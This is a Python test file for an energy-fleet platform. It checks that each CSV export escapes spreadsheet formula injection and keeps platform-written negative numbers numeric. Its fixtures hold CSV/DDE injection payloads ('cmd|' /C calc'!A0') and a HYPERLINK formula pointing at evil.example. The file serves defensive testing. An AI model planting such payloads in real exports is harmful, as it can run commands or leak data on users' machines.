"""CSV formula injection (issue 12, defect 3): text that a gateway, a charger or a person chose
(a device reference, a unit, a value, an alarm message, an idTag, a site or device name) reaches
every CSV download neutralised: a cell that a spreadsheet would run as a formula starts with a
single quote. Numbers the platform writes (a grid power of -200 W) stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

from fastapi.testclient import TestClient

from tests.app.test_site_pages import login
from tests.app.test_telemetry import bearer, h, iso, token_for
from tests.support.world import build_world
from voltfleet.app.runtime import Runtime
from voltfleet.store.charging_models import ChargingSession

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")

EVIL_SITE = "-2+3+cmd|' /C calc'!A0"
EVIL_DEVICE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_REF = '=HYPERLINK("http://evil.example/?x","click")'
EVIL_UNIT = "=HYPERLINK(A1)"
EVIL_VALUE = "+1+cmd|' /C calc'!A0"
EVIL_POINT = "-1+1+cmd|' /C calc'!A0"
EVIL_MESSAGE = "@SUM(1)"
EVIL_TAG = "=1+2"
NOW = datetime.now(UTC).replace(microsecond=0)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe(text: str) -> list[str]:
    """No cell of the CSV begins with a formula character unless it is a plain number."""
    found = cells(text)
    bad = [c for c in found if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert not bad, bad
    return found


def test_every_csv_download_neutralises_formula_cells(client: TestClient, runtime: Runtime) -> None:
    world = build_world(runtime)
    admin = h(world, "admin@I1")
    r = client.post(
        "/api/v1/sites",
        json={"name": EVIL_SITE, "timezone": "Europe/Berlin", "gateway": {"serial": "GWX"}},
        headers=admin,
    )
    assert r.status_code == 201, r.text
    site = r.json()["id"]
    ids = {}
    for kind, serial, extra in (
        ("inverter", "GWX-INV", {"parent_serial": "GWX"}),
        ("meter", "GWX-MTR", {"parent_serial": "GWX"}),
        ("charger", "GWX-EVC", {"subtype": "ac"}),
    ):
        r = client.post(
            f"/api/v1/sites/{site}/devices",
            json={"kind": kind, "serial": serial, **extra},
            headers=admin,
        )
        assert r.status_code == 201, r.text
        ids[serial] = r.json()["id"]
    r = client.get("/api/v1/devices", params={"site_id": site}, headers=admin)
    ids["GWX"] = next(d["id"] for d in r.json()["items"] if d["serial"] == "GWX")
    r = client.patch(
        f"/api/v1/devices/{ids['GWX-INV']}", json={"name": EVIL_DEVICE_NAME}, headers=admin
    )
    assert r.status_code == 200, r.text
    token = token_for(client, world, ids["GWX"])

    t = NOW - timedelta(minutes=10)
    reading = {"device": "GWX-INV", "point": "pv_power_w", "ts": iso(t), "value": 1, "unit": "W"}
    body = {
        "readings": [
            {
                "device": "GWX-MTR",
                "point": "grid_power_w",
                "ts": iso(t),
                "value": -200,
                "unit": "W",
            },
            {**reading, "device": EVIL_REF},
            {**reading, "unit": EVIL_UNIT},
            {**reading, "value": EVIL_VALUE},
            {**reading, "point": EVIL_POINT},
        ],
        "alarms": [
            {
                "device": "GWX-INV",
                "code": "INV_OVER_TEMPERATURE",
                "action": "raise",
                "ts": iso(t),
                "message": EVIL_MESSAGE,
            }
        ],
    }
    r = client.post("/api/v1/ingest", json=body, headers=bearer(token))
    assert r.status_code == 200, r.text
    assert r.json()["quarantined"] == 4, r.text
    with runtime.db.session() as s:
        s.add(
            ChargingSession(
                site_id=site,
                device_id=ids["GWX-EVC"],
                connector_id=1,
                transaction_id=424242,
                id_tag=EVIL_TAG,
                started_at=t,
                meter_start_wh=0.0,
            )
        )
        s.commit()

    om = h(world, "om@I1")
    mtr = ids["GWX-MTR"]

    def api(path: str, **params: str) -> list[str]:
        r = client.get(path, params={"format": "csv", **params}, headers=om)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        return assert_safe(r.text)

    quarantined = api("/api/v1/quarantine")
    for text in (EVIL_REF, EVIL_UNIT, EVIL_VALUE, EVIL_POINT):
        assert "'" + text in quarantined and text not in quarantined
    alarms = api("/api/v1/alarms", status="all")
    assert "'" + EVIL_MESSAGE in alarms and "'" + EVIL_SITE in alarms
    assert "'" + EVIL_DEVICE_NAME in alarms
    assert "'" + EVIL_SITE in api("/api/v1/fleet/kpis")
    assert "'" + EVIL_TAG in api("/api/v1/charging/sessions")
    # A negative number the platform wrote stays a number.
    assert "-200.000000" in api(f"/api/v1/devices/{mtr}/readings")
    api(f"/api/v1/devices/{mtr}/series")
    api(f"/api/v1/devices/{mtr}/energy")
    api(f"/api/v1/sites/{site}/energy")

    login(client, world.accounts["om@I1"].email)
    day = t.date().isoformat()

    def portal(path: str, **params: str) -> list[str]:
        r = client.get(path, params=params)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"].startswith("text/csv")
        return assert_safe(r.text)

    quarantined = portal("/maintenance/quarantine.csv")
    assert all("'" + text in quarantined for text in (EVIL_REF, EVIL_UNIT, EVIL_VALUE))
    alarms = portal("/maintenance/alarms.csv", status="all")
    assert "'" + EVIL_MESSAGE in alarms and "'" + EVIL_SITE in alarms
    assert "-200.000000" in portal(
        f"/device/{mtr}/data.csv", points="grid_power_w", start=day, end=day
    )
    portal(f"/device/{mtr}/chart.csv")
    portal(f"/device/{mtr}/energy.csv")
    portal(f"/site/{site}/energy.csv")


def test_the_savings_download_goes_through_the_same_writer(
    client: TestClient, runtime: Runtime
) -> None:
    from tests.app.test_money_pages import make_site, meter_worked_example, set_tariffs, sign_in

    world = build_world(runtime)
    site = make_site(runtime, world, name=EVIL_SITE)
    set_tariffs(client, world, site)
    meter_worked_example(client, world, site)
    sign_in(client, world, "admin@I1")
    params = {"start": "2026-03-02", "end": "2026-03-03", "stored_start": "3", "stored_end": "1"}
    r = client.get(f"/sites/{site}/savings.csv", params=params)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert 'filename="savings-2-3-cmd-c-calc-a0-2026-03-02' in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert_safe(r.text)
    # The battery gave back 2 kWh: a negative figure the platform wrote, kept a number.
    assert rows[-1]["stored_energy_change_kwh"] == "-2.000"
